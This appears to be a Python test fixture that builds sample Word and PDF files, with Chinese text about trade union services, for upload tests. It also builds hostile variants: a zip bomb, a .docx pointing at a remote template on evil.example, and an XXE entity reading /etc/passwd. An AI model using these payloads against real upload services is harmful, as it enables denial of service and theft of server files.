"""Documents made in memory for upload tests: real .docx (python-docx) and
.pdf (reportlab) files, and hostile ones."""

from __future__ import annotations

import io
import zipfile

SANMING = (
    "三明市总工会",
    "“暖心驿站”服务新就业形态劳动者",
    "三明市总工会在全市建成暖心驿站126个，累计服务货车司机和外卖骑手4.2万人次。",
    "驿站提供饮水、充电、休息和法律咨询服务，由工会志愿者轮流值守。",
)
XIAMEN = (
    "厦门市总工会",
    "“职工书屋”进社区",
    "厦门市总工会在社区建成职工书屋58家，藏书达到9.6万册。",
    "书屋每周举办读书分享会，全年吸引职工参加2300余人次。",
)


def docx_bytes(lines=SANMING) -> bytes:
    import docx

    document = docx.Document()
    document.add_heading(lines[0], level=1)
    document.add_heading(lines[1], level=2)
    for line in lines[2:]:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def pdf_bytes(lines=XIAMEN) -> bytes:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    out = io.BytesIO()
    pdf = canvas.Canvas(out)
    pdf.setFont("STSong-Light", 12)
    for i, line in enumerate(lines):
        pdf.drawString(50, 800 - 20 * i, line)
    pdf.save()
    return out.getvalue()


def _rezip(data: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, (replace or {}).get(item.filename, source.read(item)))
        for name, content in extra.items():
            target.writestr(name, content)
    return out.getvalue()


def docx_bomb() -> bytes:
    """A real .docx with a 64 MB part of zeros that compresses to ~64 KB."""
    return _rezip(docx_bytes(), {"word/media/padding.xml": b"\0" * (64 * 2**20)})


def docx_external_template() -> bytes:
    """A .docx whose relationships point at a template on another server."""
    rels_name = "word/_rels/document.xml.rels"
    rels = zipfile.ZipFile(io.BytesIO(docx_bytes())).read(rels_name)
    external = (
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return _rezip(docx_bytes(), {}, {rels_name: rels.replace(b"</Relationships>", external)})


def docx_with_doctype() -> bytes:
    name = "word/document.xml"
    xml = zipfile.ZipFile(io.BytesIO(docx_bytes())).read(name)
    head, _, rest = xml.partition(b"?>")
    evil = head + b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + rest
    return _rezip(docx_bytes(), {}, {name: evil})
